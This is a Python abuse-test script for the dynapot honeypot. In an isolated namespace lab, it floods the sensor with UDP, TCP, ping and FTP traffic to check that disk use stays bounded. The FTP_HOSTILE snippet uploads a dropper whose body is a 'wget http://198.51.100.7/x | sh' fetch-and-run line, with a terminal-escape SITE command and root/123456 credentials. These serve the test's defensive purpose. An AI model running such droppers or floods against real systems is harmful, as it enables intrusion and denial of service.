"""Abuse checks for issue 12, item 7: an attacker cannot fill dynapot's disk.

Builds its own lab (a sensor and an attacker namespace, no real hosts), starts `dynapot sensor`
for each check with a fresh SQLite database and its own /var/lib/dynapot (a bind mount in a
private mount namespace, so that the machine's uploads and keys are never touched), attacks it
from the attacker namespace and prints one JSON line per check: its figure, the limit it must
stay under and whether it passed.

- udp_noise_one_port: 10,000 UDP datagrams to one closed port -> event rows, database and log
  bytes added;
- udp_noise_many_ports: 10,000 UDP datagrams to 10,000 different closed ports (a port sweep at
  flood rate) -> event rows;
- tcp_closed_probes: 10,000 connection attempts to a closed TCP port -> event rows;
- ping_flood: 10,000 pings -> event rows;
- ftp_one_source: 50 MiB of FTP uploads (five different 10 MiB files) from one client -> bytes
  stored;
- ftp_same_file_twice: one 1 MiB file uploaded twice -> files and bytes stored;
- database_budget_full / database_budget_over (when the code has a [storage] budget): a database
  at its budget (then past it by more than a tenth) while datagrams, an FTP session with a hostile
  command line and an upload arrive -> rows still carrying payloads, noise rows, uploads kept,
  whether logins are still stored (at the budget) or nothing but the sensor's news (past it),
  and the storage alerts recorded (one).

Run as root from the repository: `python bench/abuse_disk.py` (`--quick` sends a tenth).
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import json
import os
import sqlite3
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from dynapot.db import Access, open_database
from dynapot.lab import LabSpec, lab_up
from dynapot.processes import terminate

VIRTUAL = "198.18.0.100"
CLOSED_UDP = 5353
CLOSED_TCP = 7
MIB = 1 << 20
CONFIG = f"""
create noisy
set noisy personality "Linux 5.4"
set noisy default tcp action reset
set noisy default udp action reset
add noisy tcp port 21 "ftp vsftpd|3.0.5"
add noisy udp port 9999 open
bind {VIRTUAL} noisy
"""

UDP_SENDER = r"""
import socket, sys, time
host, (first, ports, count), rate = sys.argv[1], map(int, sys.argv[2:5]), float(sys.argv[5])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
start = time.monotonic()
for i in range(count):
    s.sendto(b"noise %d" % i, (host, first + i % ports))
    ahead = i / rate - (time.monotonic() - start)
    if ahead > 0:
        time.sleep(ahead)
"""

TCP_PROBER = r"""
import socket, sys, time
host, port, count, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
start = time.monotonic()
refused = 0
for i in range(count):
    s = socket.socket()
    s.settimeout(2)
    try:
        s.connect((host, port))
    except ConnectionRefusedError:
        refused += 1
    except OSError:
        pass
    finally:
        s.close()
    ahead = i / rate - (time.monotonic() - start)
    if ahead > 0:
        time.sleep(ahead)
print(refused)
"""

FTP_UPLOADER = r"""
import ftplib, io, sys
host, files = sys.argv[1], sys.argv[2:]
ftp = ftplib.FTP(host, timeout=60)
ftp.login("anonymous", "guest@example.org")
sent = 0
for number, path in enumerate(files):
    data = open(path, "rb").read()
    try:
        ftp.storbinary(f"STOR upload-{number}.bin", io.BytesIO(data), blocksize=65536)
    except ftplib.all_errors as exc:
        print("refused", number, exc, file=sys.stderr)
    sent += len(data)
ftp.quit()
print(sent)
"""


def emit(
    name: str,
    value: float,
    unit: str,
    limit: float | None = None,
    at_least: float | None = None,
    **extra: Any,
) -> None:
    """One check's line: its figure, the limit it must stay under (or the least it must reach)."""
    passed = (limit is None or value <= limit) and (at_least is None or value >= at_least)
    line = {"name": name, "value": value, "unit": unit, "limit": limit, "pass": passed, **extra}
    if at_least is not None:
        line["at_least"] = at_least
    print(json.dumps(line), flush=True)


def has_storage_settings() -> bool:
    try:
        from dynapot.config import StorageSettings  # noqa: F401
    except ImportError:
        return False
    return True


def python(*args: str) -> list[str]:
    """The interpreter for a child that runs as root: never importing from the current folder."""
    return [sys.executable, "-P", *args]


class Sensor:
    """One `dynapot sensor` in the lab's sensor namespace, with its own files and /var/lib/dynapot."""

    def __init__(self, lab: Any, workdir: Path, settings: str | None = None) -> None:
        self.lab, self.workdir = lab, workdir
        workdir.mkdir(parents=True, exist_ok=True)
        os.chmod(workdir, 0o755)  # the sensor drops root and must reach its files
        self.varlib = workdir / "varlib"
        self.varlib.mkdir(exist_ok=True)
        os.chmod(self.varlib, 0o755)
        self.conf = workdir / "honeyd.conf"
        self.conf.write_text(CONFIG)
        self.db = workdir / "sensor.db"
        open_database(f"sqlite:///{self.db}", access=Access.CREATE).dispose()
        self.db_start = self.db_bytes()
        self.log = workdir / "honeyd.log"
        self.output = workdir / "sensor.out"
        self.status = workdir / "status" / "status.json"
        self.settings: Path | None = None
        self.use_settings(settings or "")
        self.process: subprocess.Popen[str] | None = None

    def use_settings(self, text: str) -> None:
        self.settings = self.workdir / "dynapot.toml"
        # The flood uploads as an anonymous FTP user: on, unlike the imitated vsftpd's default.
        self.settings.write_text(text + "\n[services]\nftp_anonymous = true\n")

    def db_used(self) -> int:
        """Bytes the database holds, as the sensor measures it (pages in use)."""
        with contextlib.closing(sqlite3.connect(self.db)) as conn:
            pages, free, size = (
                conn.execute(f"PRAGMA {p}").fetchone()[0]
                for p in ("page_count", "freelist_count", "page_size")
            )
            return (pages - free) * size

    def db_bytes(self) -> int:
        return sum(p.stat().st_size for p in self.workdir.glob("sensor.db*"))

    def start(self) -> None:
        command = python("-m", "dynapot", "sensor", "-i", "eth0", "--config", str(self.conf))
        command += ["--log", str(self.log), "--db", f"sqlite:///{self.db}", "--status", str(self.status)]
        if self.settings is not None:
            command += ["--settings", str(self.settings)]
        Path("/var/lib/dynapot").mkdir(parents=True, exist_ok=True)
        # A private mount namespace: the sensor's /var/lib/dynapot (uploads, SSH keys, secret) is ours.
        private = ["unshare", "--mount", "--propagation", "private", "--", "sh", "-c"]
        private += ['mount --bind "$0" /var/lib/dynapot && exec "$@"', str(self.varlib)]
        with self.output.open("w") as out:
            self.process = self.lab.popen(
                self.lab.sensor, [*private, *command], stdout=out, stderr=subprocess.STDOUT, text=True
            )
        deadline = time.monotonic() + 120
        while "claimed " not in self.output.read_text():
            if self.process.poll() is not None or time.monotonic() > deadline:
                raise RuntimeError(f"the sensor did not start: {self.output.read_text()}")
            time.sleep(0.05)

    def stop(self) -> None:
        if self.process is not None:
            terminate(self.process, 60)

    def rows(self, where: str = "1=1") -> int:
        with contextlib.closing(sqlite3.connect(self.db)) as conn:
            return conn.execute(f"SELECT count(*) FROM honeypot_events WHERE {where}").fetchone()[0]

    def uploads(self) -> list[Path]:
        folder = self.varlib / "uploads"
        return (
            [p for p in folder.iterdir() if p.is_file() and not p.name.startswith(".")]
            if folder.exists()
            else []
        )

    def health(self, after: float = 0.0) -> dict[str, Any]:
        """The sensor's status, waiting (a status period at most) for one written after `after`."""
        deadline = time.time() + 8
        while True:
            try:
                status = json.loads(self.status.read_text())
            except (OSError, ValueError):
                status = {}
            if status.get("time", 0) > after or time.time() > deadline:
                return status
            time.sleep(0.2)


@contextlib.contextmanager
def sensor(lab: Any, workdir: Path, settings: str | None = None) -> Iterator[Sensor]:
    running = Sensor(lab, workdir, settings)
    try:
        running.start()
        yield running
    finally:
        running.stop()


def attacker(lab: Any, argv: list[str], timeout: float = 300) -> str:
    result = lab.exec(lab.attacker, argv, timeout=timeout)
    if result.returncode != 0:
        raise RuntimeError(f"{argv[:3]} failed: {result.stderr}")
    return result.stdout


def check_udp(lab: Any, workdir: Path, count: int, ports: int, name: str, limit: int) -> None:
    with sensor(lab, workdir) as s:
        started = time.monotonic()
        attacker(lab, python("-c", UDP_SENDER, VIRTUAL, str(CLOSED_UDP), str(ports), str(count), "4000"))
        seconds = time.monotonic() - started
        time.sleep(1)
    rows = s.rows("protocol = 'udp'")
    log_bytes = s.log.stat().st_size if s.log.exists() else 0
    emit(name, rows, "rows", limit, datagrams=count, ports=ports, seconds=round(seconds, 1),
         database_bytes_added=s.db_bytes() - s.db_start, log_bytes=log_bytes)  # fmt: skip


def check_tcp(lab: Any, workdir: Path, count: int, limit: int) -> None:
    with sensor(lab, workdir) as s:
        refused = attacker(lab, python("-c", TCP_PROBER, VIRTUAL, str(CLOSED_TCP), str(count), "2000"))
        time.sleep(1)
    rows = s.rows("protocol = 'tcp' AND kind = 'probe'")
    emit("tcp_closed_probes", rows, "rows", limit, attempts=count, refused=int(refused.strip() or 0),
         database_bytes_added=s.db_bytes() - s.db_start)  # fmt: skip


def check_ping(lab: Any, workdir: Path, count: int, limit: int) -> None:
    with sensor(lab, workdir) as s:
        attacker(
            lab, ["ping", "-n", "-q", "-c", str(count), "-i", "0.0005", VIRTUAL], timeout=count / 100 + 60
        )
        time.sleep(1)
    rows = s.rows("kind = 'echo'")
    emit("ping_flood", rows, "rows", limit, pings=count, database_bytes_added=s.db_bytes() - s.db_start)


def make_files(workdir: Path, count: int, size: int) -> list[Path]:
    workdir.mkdir(parents=True, exist_ok=True)
    files = []
    for number in range(count):
        path = workdir / f"payload-{number}.bin"
        path.write_bytes(os.urandom(size))
        files.append(path)
    os.chmod(workdir, 0o755)
    return files


def check_ftp(lab: Any, workdir: Path, files: list[Path], name: str, limit: float, unit_size: int) -> None:
    with sensor(lab, workdir) as s:
        started = time.monotonic()
        sent = int(attacker(lab, python("-c", FTP_UPLOADER, VIRTUAL, *map(str, files))).strip())
        seconds = time.monotonic() - started
        health = s.health(after=time.time())
    kept = s.uploads()
    stored = sum(p.stat().st_size for p in kept)
    distinct = len({hashlib.sha256(p.read_bytes()).hexdigest() for p in files})
    uploads = s.rows("kind = 'upload'")
    emit(name, round(stored / unit_size, 2), "MiB" if unit_size == MIB else "files", limit,
         sent_mib=round(sent / MIB, 1), seconds=round(seconds, 1), files_stored=len(kept),
         distinct_files_sent=distinct, upload_events=uploads,
         storage=health.get("storage"))  # fmt: skip


FTP_HOSTILE = r"""
import ftplib, io, sys
ftp = ftplib.FTP(sys.argv[1], timeout=30)
ftp.login("root", "123456")
try:
    ftp.sendcmd("SITE \x01\x1b[31mhostile")
except ftplib.all_errors:
    pass
ftp.storbinary("STOR dropper.sh", io.BytesIO(b"#!/bin/sh\nwget http://198.51.100.7/x | sh\n" * 50))
ftp.quit()
"""


def check_budget(lab: Any, workdir: Path, level: str) -> None:
    """The database at its budget (`full`: the budget is what it holds when the sensor starts) or
    far past it (`over`: a budget of one byte), then noise, payloads and an upload."""
    s = Sensor(lab, workdir)
    budget = s.db_used() if level == "full" else 1
    s.use_settings(f"[storage]\ndatabase_budget = {budget}\n")
    try:
        s.start()
        s.health(after=time.time())  # the first measurement is done
        attacker(lab, python("-c", UDP_SENDER, VIRTUAL, "9999", "1", "200", "2000"))
        attacker(lab, python("-c", UDP_SENDER, VIRTUAL, str(CLOSED_UDP), "50", "500", "2000"))
        attacker(lab, python("-c", FTP_HOSTILE, VIRTUAL))
        health = s.health(after=time.time())
    finally:
        s.stop()
    payloads = s.rows("data LIKE '%excerpt%' OR data LIKE '%\"line\"%'")
    news = "('sensor-start', 'sensor-reload', 'events-lost', 'storage-full')"
    emit(f"database_budget_{level}_payloads_stored", payloads, "rows", 0,
         noise_rows=s.rows("kind IN ('probe', 'datagram', 'echo', 'icmp')"),
         login_rows=s.rows("kind = 'login'"), upload_rows=s.rows("kind = 'upload'"),
         other_rows=s.rows(f"kind NOT IN {news}"), files_kept=len(s.uploads()),
         storage=health.get("storage"))  # fmt: skip
    emit(f"database_budget_{level}_alerts", s.rows("kind = 'storage-full'"), "rows", 1)
    if level == "over":
        emit("database_budget_over_rows_but_news", s.rows(f"kind NOT IN {news}"), "rows", 0)
    else:
        emit("database_budget_full_logins_kept", s.rows("kind = 'login'"), "rows", at_least=1)
        emit("database_budget_full_files_kept", len(s.uploads()), "files", 0)


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--quick", action="store_true", help="send a tenth of everything")
    args = parser.parse_args()
    if os.geteuid() != 0:
        sys.exit("needs root: it builds a lab of network namespaces")
    scale = 10 if args.quick else 1
    noise = 10_000 // scale
    with tempfile.TemporaryDirectory(prefix="dynapot-abuse-disk-") as tmp, lab_up(LabSpec()) as lab:
        root = Path(tmp)
        os.chmod(root, 0o755)
        check_udp(lab, root / "udp1", noise, 1, "udp_noise_one_port", 10)
        check_udp(lab, root / "udpn", noise, noise, "udp_noise_many_ports", 1100)
        check_tcp(lab, root / "tcp", noise, 10)
        check_ping(lab, root / "ping", noise, 10)
        payloads = root / "payloads"
        payloads.mkdir()
        big = make_files(payloads, 5, 10 * MIB // scale)
        check_ftp(lab, root / "ftp", big, "ftp_one_source", 20 / scale, MIB)
        same = make_files(payloads / "same", 1, MIB) * 2
        check_ftp(lab, root / "ftp2", same, "ftp_same_file_twice", 1, MIB)
        if has_storage_settings():
            check_budget(lab, root / "full", "full")
            check_budget(lab, root / "over", "over")


if __name__ == "__main__":
    main()
